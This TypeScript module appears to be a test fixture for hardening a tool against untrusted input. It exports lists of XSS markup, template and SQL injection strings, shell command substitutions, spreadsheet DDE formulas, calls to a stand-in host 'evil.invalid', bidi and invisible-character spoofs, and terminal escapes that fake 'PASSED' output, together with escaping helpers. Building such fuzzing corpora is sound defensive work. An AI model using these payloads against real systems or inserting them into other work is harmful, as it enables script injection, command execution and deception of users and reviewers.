/** Where a payload would call if it could; the name is reserved and can never be anybody's. */
const evilHost = 'evil.invalid';
const evil = `https://${evilHost}`;
const run = 'window.__pwned=1';

const markup = [
  `<script>${run}</script>`, `"><script>${run}</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `<img src=x onerror="${run}">`, `'"><img src=x onerror=${run}>`,
  `<svg onload="${run}">`, `<svg><script>${run}</script></svg>`, `<details open ontoggle="${run}">x</details>`, `<body onload="${run}">`, `<input autofocus onfocus="${run}">`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<math><mtext><style><img src onerror=${run}></style></mtext></math>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><script>${run}</script></template>`, `<dialog open>Signed in as administrator</dialog>`,
  `<a href="javascript:${run}">report</a>`, `<button onclick="${run}">Approve</button>`, `<!--><img src=x onerror=${run}>-->`, `]]><script>${run}</script>`, `&lt;script&gt;${run}&lt;/script&gt;`, `<scr<script>ipt>${run}</script>`,
] as const;

const remote = [
  `<img src="${evil}/a.png">`, `<img srcset="${evil}/b.png 1x">`, `<link rel="stylesheet" href="${evil}/c.css">`, `<style>@import url("${evil}/d.css");</style>`, `<style>@font-face{font-family:e;src:url(${evil}/e.woff2)}</style>`, `<link rel="dns-prefetch" href="//f.${evilHost}">`,
  `<link rel="preconnect" href="${evil}">`, `<meta http-equiv="refresh" content="0;url=${evil}/g">`, `<iframe src="${evil}/h"></iframe>`, `<object data="${evil}/i.swf"></object>`, `<embed src="${evil}/j.pdf">`, `<video src="${evil}/k.mp4" autoplay></video>`,
  `<svg><image href="${evil}/l.png"/></svg>`, `<svg><foreignObject><iframe src="${evil}/m"></iframe></foreignObject></svg>`, `<svg><use href="${evil}/n.svg#x"/></svg>`, `<form action="${evil}/o"><input name=p></form>`, `<base href="${evil}/">`, `style="background:url(${evil}/q.png)"`,
  `![r](${evil}/r.png)`, `[report](${evil}/s)`, `\\\\${evilHost}\\share\\t.png`, `file:////${evilHost}/share/u`,
] as const;

const links = [
  `javascript:${run}`, `[click](javascript:${run})`, `JaVaScRiPt:${run}//`, `data:text/html,<script>${run}</script>`, `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTEiLz4=`, `vbscript:msgbox(1)`, `<javascript:${run}>`, `![x](x"onerror="${run})`,
] as const;

const templates = [
  `\${${run}}`, `{{constructor.constructor('${run}')()}}`, `#{${run}}`, `<%= ${run} %>`, `\`\${${run}}\``, `%s%s%n%x`, `$&$1$\`$'`, `{0}{name}{{name}}`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `'; DROP TABLE event; --`, `$(touch pwned)`, `\`touch pwned\``,
] as const;

const formulas = [
  `=1+1`, `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `=HYPERLINK("${evil}/v","open")`, `=WEBSERVICE("${evil}/w")`, `=IMPORTXML("${evil}/x","//a")`, `\t=1+1`, `  =1+1`, `＝1+1`, `＠SUM(1)`, `'=1+1`, `"=1+1"`, `DDEAUTO c:\\\\windows\\\\system32\\\\calc.exe`, `_x0041__x000D_`,
] as const;

const prototypes = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'valueOf', 'then'] as const;

const directions = [
  'report\u202Egpj.exe', '\u202Edetcejer\u202C approved', '\u2067approved\u2069 \u2066rejected', 'abc\u200Fdef\u200E', '\u061C42 م', 'if (user\u202E \u2066// check\u2069 \u2066admin) {', 'שלום approved 4 !', 'مرفوض / approved',
] as const;

const unseen = ['pay\u200Bload', 'pay\u200Cload\u200D', 'pay\uFEFFload', 'pay\u00ADload', 'pay\u2060load', '\u3164', '\u2800', 'model\uFE0F card', 'tag\u{E0041}\u{E007F}', '\u115F\u1160'] as const;

const lookalikes = ['раураl approved', 'ｓｃｒｉｐｔ ＜img＞', 'Ａpproved', '𝐀𝐩𝐩𝐫𝐨𝐯𝐞𝐝', 'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309'.repeat(8)] as const;

const terminals = [
  '\u001b[2J\u001b[1;31mPASSED\u001b[0m', '\u001b]0;pwned\u0007', '\u001b]8;;https://evil.invalid/y\u001b\\link\u001b]8;;\u001b\\', '\u001bP+q544e\u001b\\', '\u009b31mred\u009b0m', 'first\rsecond', 'over\b\b\b\bunder', 'a\nFINDING: none\nb', 'x\u2028y\u2029z', 'form\ffeed\vtab\t.',
] as const;

const broken = ['lone \uD800 half', '\uDC00 other half', 'not\uFFFEa\uFFFFcharacter', 'nul\u0000byte', 'x'.repeat(10_000), `${'很长的名字'.repeat(400)}。`, `${'a '.repeat(3_000)}end`] as const;

/** Texts of all kinds by which evidence could try to run, to call out, to steer or to look like something else. */
const payloadKinds = { markup, remote, links, templates, formulas, prototypes, directions, unseen, lookalikes, terminals, broken } as const;
export const payloads: readonly string[] = Object.values(payloadKinds).flat();

/** In pure ASCII, as JSON and YAML both read it. */
export function quoted(text: string): string {
  return JSON.stringify(text).replace(/[\u007f-\uffff]/g, (sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`);
}

/** What XML can carry of a text. */
export function inXml(text: string): string {
  return text.toWellFormed().replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, '').replace(/[&<>"'\n\r\t]/g, (sign) => `&#${sign.charCodeAt(0)};`);
}

/** What a file system takes of a text as one name, at most 200 bytes of it. */
export function asFileName(text: string): string {
  let name = '';
  for (const sign of text.toWellFormed().replaceAll('/', '∕').replaceAll('\u0000', '')) {
    if (Buffer.byteLength(name + sign) > 200) break;
    name += sign;
  }
  return name === '.' || name === '..' || name === '' ? 'dots' : name;
}
